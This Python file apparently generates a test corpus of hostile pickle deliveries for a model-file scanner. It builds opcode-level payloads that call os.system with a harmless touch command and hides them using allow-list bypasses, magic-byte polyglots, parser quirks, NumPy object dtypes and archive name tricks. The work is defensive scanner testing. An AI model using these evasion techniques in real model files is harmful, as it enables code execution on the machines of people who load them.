"""A generator of hostile pickle deliveries, written opcode by opcode (nothing is ever unpickled).

Each :class:`Case` is one delivery built under a folder, with what the scan must say about it:
for every file that would run code when loaded, ``unsafe`` with the global named, or
``unverified`` with a reason.  The classes follow the red-team report (issue 16): names only
an allow-list catches, detection that trusts names or magic bytes, a parser that reads
differently from CPython's Unpickler, NumPy object dtypes, and archive listing vs extraction.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# -- opcodes ---------------------------------------------------------------------------------

PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
MARK, STOP, POP, TUPLE, TUPLE1, REDUCE = b"(", b".", b"0", b"t", b"\x85", b"R"
STACK_GLOBAL, MEMOIZE, NONE, EMPTY_DICT = b"\x93", b"\x94", b"N", b"}"


def su(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form)."""
    return f"c{module}\n{name}\n".encode()


def string0(text: str) -> bytes:
    """STRING (protocol 0, quoted)."""
    return f"S'{text}'\n".encode()


def call0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0: GLOBAL, MARK, STRING args, TUPLE, REDUCE, STOP."""
    return glob(module, name) + MARK + b"".join(string0(a) for a in args) + TUPLE + REDUCE + STOP


def call4(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: STACK_GLOBAL from two pushed strings, one argument, REDUCE, STOP."""
    return PROTO4 + su(module) + su(name) + STACK_GLOBAL + su(arg) + TUPLE1 + REDUCE + STOP


def safe_state() -> bytes:
    """An allow-listed torch state dict (OrderedDict + _rebuild_tensor_v2 + FloatStorage)."""
    return (b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x01\x00\x00\x00w"
            b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
            b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00K\x02\x85K\x01\x85\x89tRs.")


# -- containers ------------------------------------------------------------------------------

def zip_bytes(members: list[tuple[str, bytes]], *, stored: bool = False) -> bytes:
    buf = io.BytesIO()
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")          # duplicate names are the point of some cases
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as zf:
            for name, data in members:
                zf.writestr(name, data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, *, root: str = "archive", pkl_name: str = "data.pkl",
              padding: int = 0) -> bytes:
    members = [(f"{root}/data/{i}", b"\x00" * padding) for i in range(1 if padding else 0)]
    members += [(f"{root}/{pkl_name}", data_pkl), (f"{root}/version", b"3\n"),
                (f"{root}/data/9", b"\x00" * 16)]
    return zip_bytes(members, stored=True)


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def npy(descr: str, body: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _patch_crc(blob: bytes, name: bytes) -> bytes:
    """Corrupt the CRC-32 of member ``name`` in both its local and central headers."""
    out = bytearray(blob)
    for sig, crc_at, name_at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        pos = out.find(sig)
        while pos >= 0:
            length = struct.unpack_from("<H", out, pos + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(out[pos + name_at:pos + name_at + length]) == name:
                out[pos + crc_at:pos + crc_at + 4] = b"\xde\xad\xbe\xef"
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _unicode_path_zip(raw_name: str, real_name: str, data: bytes) -> bytes:
    """A zip whose member carries an Info-ZIP Unicode Path extra field (0x7075) naming it otherwise."""
    raw = raw_name.encode()
    real = real_name.encode()
    extra_body = b"\x01" + struct.pack("<L", zlib.crc32(raw)) + real
    extra = struct.pack("<HH", 0x7075, len(extra_body)) + extra_body
    crc = zlib.crc32(data)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data),
                        len(raw), len(extra)) + raw + extra + data
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
                          len(raw), len(extra), 0, 0, 0, 0, 0) + raw + extra
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _nul_name_zip(name: bytes, data: bytes) -> bytes:
    """A stored zip member whose name holds a NUL byte (tools cut the name there)."""
    crc = zlib.crc32(data)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data),
                        len(name), 0) + name + data
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
                          len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


# -- cases -----------------------------------------------------------------------------------

@dataclass
class Expect:
    """What the scan must say about one file: the start of its path, its verdict and a word of
    the named global (unsafe) or of the reason (unverified)."""

    path: str
    verdict: str
    says: str = ""


@dataclass
class Case:
    name: str
    kind: str
    files: Callable[[str], dict[str, bytes]]      # marker -> relative path -> bytes
    expect: list[Expect] = field(default_factory=list)


def _touch(marker: str) -> str:
    return f"touch /tmp/{marker}-pwned"


def _one(name: str, kind: str, path: str, build: Callable[[str], bytes], verdict: str, says: str) -> Case:
    return Case(name, kind, lambda m: {path: build(m)}, [Expect(path, verdict, says)])


def _overflow(m: str) -> bytes:
    body = b"".join(glob(f"harmless{i}", "f") + POP for i in range(10_000))
    return body + call0("os", "system", _touch(m))


def _ordered_then(evil: bytes) -> bytes:
    return safe_state() + evil


def _gguf_polyglot(m: str) -> bytes:
    # "GGUF" is BINFLOAT ('G') eating 8 bytes; POP drops the float; then the payload.
    return b"GGUF\x03\x00\x00\x00\x00" + POP + call0("os", "system", _touch(m))


def _tflite_polyglot(m: str) -> bytes:
    # bytes 4..8 are "TFL3": NONE NONE NONE then BININT eats them; POP x4; then the payload.
    return b"NNNJTFL3" + POP * 4 + call0("os", "system", _touch(m))


def _zip_magic_polyglot(m: str) -> bytes:
    # PERSID ('P') reads "K\x03\x04...\n" as a persistent id; POP drops it.
    return b"PK\x03\x04polyglot\n" + POP + call0("os", "system", _touch(m))


def _legacy_torch_tar(m: str) -> bytes:
    return tar_bytes([("sys_info", PROTO2 + EMPTY_DICT + STOP),
                      ("pickle", PROTO2 + glob("os", "system") + su(_touch(m)) + TUPLE1 + REDUCE + STOP),
                      ("storages", PROTO2 + b"K\x00" + STOP),
                      ("tensors", PROTO2 + b"K\x00" + STOP)])


def _npz_odd_member(m: str) -> bytes:
    return zip_bytes([("arr_0", npy("'|O'", call0("os", "system", _touch(m))))])


def _dup_zip(m: str) -> bytes:
    return zip_bytes([("model.pkl", safe_state()), ("model.pkl", call0("os", "system", _touch(m)))])


def _dup_tar(m: str) -> bytes:
    return tar_bytes([("model.pkl", safe_state()), ("model.pkl", call0("os", "system", _touch(m)))])


def _case_zip(m: str) -> bytes:
    return zip_bytes([("weights/Model.pkl", safe_state()),
                      ("weights/model.pkl", call0("os", "system", _touch(m)))])


def _nfc_zip(m: str) -> bytes:
    return zip_bytes([("caf\u00e9.pkl", safe_state()),
                      ("cafe\u0301.pkl", call0("os", "system", _touch(m)))])


def _budget(m: str) -> bytes:
    return PROTO2 + (NONE + POP) * 1_000_001 + call0("os", "system", _touch(m))[:-1] + STOP


def cases() -> list[Case]:
    """Every hostile delivery, one class after another."""
    out: list[Case] = []
    # 1. Names only an allow-list catches (each would run code on load).
    for module, name, args in (
            ("pydoc", "pipepager", ("x", "touch /tmp/M")),
            ("uuid", "_get_command_stdout", ("sh", "-c", "touch /tmp/M")),
            ("ensurepip", "_run_pip", ("x",)),
            ("doctest", "debug_script", ("import os",)),
            ("_osx_support", "_read_output", ("touch /tmp/M",)),
            ("codecs", "open", ("/tmp/M", "w")),
            ("cPickle", "loads", ("x",)),
            ("__builtin__", "eval", ("1",)),
            ("timeit", "timeit", ("x",)),
            ("collections", "Counter", ("x",))):
        out.append(_one(f"allow-list-{module}.{name}", "allow-list", "model.pkl",
                        lambda m, a=(module, name, args): call0(a[0], a[1], *a[2]), "unsafe", f"{module}.{name}"))
    out.append(_one("dotted-attribute-chain", "allow-list", "model.pkl",
                    lambda m: call4("torch._utils", "os.system", _touch(m)), "unsafe", "os.system"))
    out.append(_one("dotted-dunder-chain", "allow-list", "model.pkl",
                    lambda m: call4("collections", "OrderedDict.__init__.__globals__", "x"), "unsafe",
                    "__globals__"))
    out.append(_one("dotted-module-trick", "allow-list", "model.pkl",
                    lambda m: call4("torch._utils.os", "system", _touch(m)), "unsafe", "torch._utils.os"))
    out.append(_one("inst-opcode", "allow-list", "model.pkl",
                    lambda m: MARK + string0(_touch(m)) + b"ipydoc\npipepager\n" + STOP, "unsafe", "pydoc"))
    out.append(_one("obj-opcode", "allow-list", "model.pkl",
                    lambda m: MARK + glob("os", "system") + string0(_touch(m)) + b"o" + STOP, "unsafe",
                    "os.system"))
    out.append(_one("memo-decoy", "allow-list", "model.pkl",
                    lambda m: PROTO4 + su("os") + MEMOIZE + su("system") + MEMOIZE + su("collections")
                    + su("OrderedDict") + POP + POP + b"h\x00h\x01" + STACK_GLOBAL + su(_touch(m)) + TUPLE1
                    + REDUCE + STOP, "unsafe", "os.system"))
    out.append(_one("unresolvable-stack-global", "allow-list", "model.pkl",
                    lambda m: PROTO4 + b"K\x01K\x02" + STACK_GLOBAL + b")" + REDUCE + STOP,
                    "unsafe", "unknown"))
    # 2. Detection that trusts names, paths or magic bytes.
    evil0 = lambda m: call0("os", "system", _touch(m))  # noqa: E731
    evil4 = lambda m: call4("os", "system", _touch(m))  # noqa: E731
    for path, build in (("weights", evil0), ("model.dat", evil0), ("model.msgpack", evil4),
                        ("model.bin", evil4), ("model.pth.tar", evil4), ("notes.txt", evil0),
                        ("Model.mlpackage/Data/weights.bin", evil4),
                        ("saved/variables/variables.data-00000-of-00001", evil4),
                        ("model.npy", evil0), ("config.json", evil0)):
        out.append(_one(f"name-{path}", "detection", path, build, "unsafe", "os.system"))
    out.append(_one("gguf-polyglot", "detection", "model.bin", _gguf_polyglot, "unsafe", "os.system"))
    out.append(_one("tflite-polyglot", "detection", "model.bin", _tflite_polyglot, "unsafe", "os.system"))
    out.append(_one("zip-magic-polyglot", "detection", "model.bin", _zip_magic_polyglot, "unsafe", "os.system"))
    for label, compress in (("gzip", gzip.compress), ("zlib", zlib.compress), ("bz2", bz2.compress),
                            ("xz", lzma.compress),
                            ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE))):
        out.append(_one(f"joblib-{label}", "detection", "model.joblib",
                        lambda m, c=compress: c(evil4(m)), "unsafe", "os.system"))
    out.append(_one("joblib-gzip-no-ext", "detection", "estimator",
                    lambda m: gzip.compress(evil0(m)), "unsafe", "os.system"))
    out.append(Case("legacy-torch-tar", "detection", lambda m: {"model.pth.tar": _legacy_torch_tar(m)},
                    [Expect("model.pth.tar!/pickle", "unsafe", "os.system")]))
    out.append(_one("torch-zip-bin-late-data-pkl", "detection", "pytorch_model.bin",
                    lambda m: torch_zip(evil4(m), padding=200_000), "unsafe", "os.system"))
    out.append(_one("torch-zip-DATA.PKL", "detection", "pytorch_model.bin",
                    lambda m: torch_zip(evil4(m), pkl_name="DATA.PKL"), "unsafe", "os.system"))
    out.append(_one("torch-zip-odd-pkl-casing", "detection", "model.pt",
                    lambda m: zip_bytes([("archive/data.pkl", safe_state()), ("archive/extra.PkL", evil4(m))]),
                    "unsafe", "os.system"))
    out.append(_one("torch-zip-bad-crc", "detection", "model.pt",
                    lambda m: _patch_crc(torch_zip(evil4(m)), b"archive/data.pkl"), "unsafe", "os.system"))
    # 3. A parser that reads differently from CPython's Unpickler.
    out.append(_one("int-base-0-literal", "parser", "model.pkl",
                    lambda m: b"I0x1f\n" + POP + call0("os", "system", _touch(m)), "unsafe", "os.system"))
    out.append(_one("long-int-literal", "parser", "model.pkl",
                    lambda m: b"L0o17L\n" + POP + call0("os", "system", _touch(m)), "unsafe", "os.system"))
    out.append(_one("long-line", "parser", "model.pkl",
                    lambda m: string0("A" * 100_000) + POP + call0("os", "system", _touch(m)), "unsafe",
                    "os.system"))
    out.append(_one("second-pickle-protocol-0", "parser", "model.pkl",
                    lambda m: _ordered_then(call0("os", "system", _touch(m))), "unsafe", "os.system"))
    out.append(_one("third-pickle-after-two-safe", "parser", "pytorch_model.bin",
                    lambda m: safe_state() + safe_state() + call4("os", "system", _touch(m)), "unsafe",
                    "os.system"))
    out.append(_one("trailing-garbage", "parser", "model.pkl",
                    lambda m: safe_state() + b"\n\x00\xff" + b"junk" * 100, "unverified", "data after pickle"))
    for ext, op in (("EXT1", b"\x82\x01"), ("EXT2", b"\x83\x01\x00"), ("EXT4", b"\x84\x01\x00\x00\x00")):
        out.append(_one(f"copyreg-{ext}", "parser", "model.pkl",
                        lambda m, o=op: PROTO2 + o + su(_touch(m)) + TUPLE1 + REDUCE + STOP, "unverified", ext))
    out.append(_one("globals-table-overflow", "parser", "model.pkl", _overflow, "unsafe", "os.system"))
    out.append(_one("opcode-budget", "parser", "model.pkl", _budget, "unverified", "opcodes"))
    out.append(_one("truncated-safe-looking", "parser", "pytorch_model.bin",
                    lambda m: safe_state()[:-20], "unverified", "broken"))
    out.append(_one("safe-then-truncated-evil", "parser", "model.pkl",
                    lambda m: safe_state() + call0("os", "system", _touch(m))[:-3], "unsafe", "os.system"))
    # 4. NumPy object arrays in every descr form.
    for label, descr in (("string", "'|O'"), ("tuple-subarray", "('|O', (2,))"), ("comma", "'i4,O'"),
                         ("structured", "[('a', '<i4'), ('b', '|O')]"),
                         ("nested", "[('a', [('b', 'O8')])]"), ("subarray-field", "[('a', 'O', (2,))]")):
        out.append(_one(f"npy-{label}", "numpy", "arr.npy",
                        lambda m, d=descr: npy(d, call0("os", "system", _touch(m))), "unsafe", "os.system"))
    out.append(_one("npz-member-without-npy", "numpy", "arrays.npz", _npz_odd_member, "unsafe", "os.system"))
    # 5. Archive listing vs extraction.
    out.append(Case("zip-duplicate-names", "archive", lambda m: {"bundle.zip": _dup_zip(m)},
                    [Expect("bundle.zip!/model.pkl", "unsafe", "os.system")]))
    out.append(Case("tar-duplicate-names", "archive", lambda m: {"bundle.tar": _dup_tar(m)},
                    [Expect("bundle.tar!/model.pkl", "unsafe", "os.system")]))
    out.append(Case("zip-nul-in-name", "archive",
                    lambda m: {"bundle.zip": _nul_name_zip(b"model.pkl\x00.txt", evil0(m))},
                    [Expect("bundle.zip!/model.pkl", "unsafe", "os.system")]))
    out.append(Case("zip-unicode-path-field", "archive",
                    lambda m: {"bundle.zip": _unicode_path_zip("notes.txt", "model.pkl", evil0(m))},
                    [Expect("bundle.zip!/notes.txt", "unsafe", "os.system")]))
    out.append(Case("zip-case-collision", "archive", lambda m: {"bundle.zip": _case_zip(m)},
                    [Expect("bundle.zip!/weights/model.pkl", "unsafe", "os.system")]))
    out.append(Case("zip-unicode-normalisation-collision", "archive", lambda m: {"bundle.zip": _nfc_zip(m)},
                    [Expect("bundle.zip!/cafe\u0301.pkl", "unsafe", "os.system")]))
    return out


def write_case(case: Case, root: Path, marker: str) -> Path:
    """Write ``case`` under ``root`` (a delivery folder) and return the folder."""
    root.mkdir(parents=True, exist_ok=True)
    for rel, data in case.files(marker).items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    return root
